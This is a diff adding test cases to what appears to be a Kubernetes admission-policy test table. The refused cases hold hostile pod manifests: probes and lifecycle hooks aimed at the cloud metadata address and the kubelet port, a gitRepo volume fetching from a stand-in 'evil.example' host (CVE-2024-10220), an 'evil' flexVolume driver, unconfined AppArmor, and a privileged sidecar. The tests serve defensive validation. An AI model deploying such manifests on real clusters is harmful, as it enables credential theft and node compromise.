@@ -57,6 +57,8 @@ const cronJob = (change: object): Manifest => ({
   },
 });
 
+/** The node's own request, from the node's own address. */
+const own = { httpGet: { host: "169.254.169.254", path: "/", port: 80 } };
 const ofNode = { volumes: [{ name: "node", hostPath: { path: "/" } }] };
 const gatewayContext = {
   runAsNonRoot: true,
@@ -272,6 +274,57 @@ export const table: Table = {
       verdict: "refuse",
       object: contained({ privileged: true, allowPrivilegeEscalation: undefined }),
       as: "system:serviceaccount:kube-system:replicaset-controller",
+    },
+
+    ...[{ livenessProbe: own }, { readinessProbe: { tcpSocket: { host: "127.0.0.1", port: 10250 } } }].map((probe) => ({
+      name: `a node that asks another host, by ${Object.keys(probe).join()}`,
+      verdict: "refuse" as const,
+      object: pod({ containers: [box(probe)] }),
+    })),
+    {
+      name: "a node that asks another host when a container ends",
+      verdict: "refuse",
+      object: workload("Deployment", { containers: [box({ lifecycle: { preStop: own } })] }),
+    },
+    {
+      name: "a probe of the container itself",
+      verdict: "accept",
+      object: pod({ containers: [box({ livenessProbe: { httpGet: { path: "/", port: 8080 } } })] }),
+    },
+    {
+      name: "a profile of seccomp on the node",
+      verdict: "accept",
+      object: contained({ seccompProfile: { type: "Localhost", localhostProfile: "shop.json" } }),
+    },
+    {
+      name: "no profile of AppArmor",
+      verdict: "refuse",
+      object: contained({ appArmorProfile: { type: "Unconfined" } }),
+    },
+    {
+      name: "no profile of AppArmor by the old annotation",
+      verdict: "refuse",
+      object: pod({}, { annotations: { "container.apparmor.security.beta.kubernetes.io/shop": "unconfined" } }),
+    },
+    { name: "a user of SELinux", verdict: "refuse", object: contained({ seLinuxOptions: { user: "system_u" } }) },
+    {
+      name: "files that the node fetches by git (CVE-2024-10220)",
+      verdict: "refuse",
+      object: pod({ volumes: [{ name: "code", gitRepo: { repository: "https://evil.example/x" } }] }),
+    },
+    {
+      name: "a driver of the node's",
+      verdict: "refuse",
+      object: pod({ volumes: [{ name: "disk", flexVolume: { driver: "evil/mount" } }] }),
+    },
+    {
+      name: "a privileged sidecar that begins and stays",
+      verdict: "refuse",
+      object: pod({
+        initContainers: [
+          box({ name: "side", restartPolicy: "Always" }, { privileged: true, allowPrivilegeEscalation: undefined }),
+        ],
+      }),
     },
   ],
 };
